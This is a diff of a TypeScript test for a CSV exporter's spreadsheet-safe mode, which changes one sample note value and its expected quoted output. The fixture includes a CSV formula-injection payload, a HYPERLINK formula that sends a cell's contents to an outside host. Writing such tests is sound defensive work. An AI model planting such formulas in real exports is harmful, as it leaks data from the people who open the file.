@@ -6,7 +6,7 @@ import { normals, run, testFolder } from '../testing/run.js'
 const folder = testFolder()
 const z = normals(4)
 const call = '=HYPERLINK("http://example.org?x="&A1)'
-const names = (i: number): string => [call, '+1 555 0100', '@home', '-5', '-', 'plain'][i % 6]!
+const names = (i: number): string => [call, '+1 555 0100', '@home', '-5', '-', '-1,250.5 %'][i % 6]!
 const rows = Array.from({ length: 60 }, (_, i) => [z(), names(i), z()])
 const data = folder.csv('data.csv', [['x', 'note', 'y'], ...rows])
 const flags = [data, '--target', 'y', '--exclude', 'note', '--rows', join(folder.path, 'rows.csv'), '--keep']
@@ -34,5 +34,5 @@ test('with --spreadsheet-safe they are texts, numbers and lone signs stay', asyn
   expect(notes[2]).toMatch(/^'@home,/)
   expect(notes[3]).toMatch(/^-5,/)
   expect(notes[4]).toMatch(/^-,/)
-  expect(notes[5]).toMatch(/^plain,/)
+  expect(notes[5]).toMatch(/^"-1,250.5 %",/)
 })
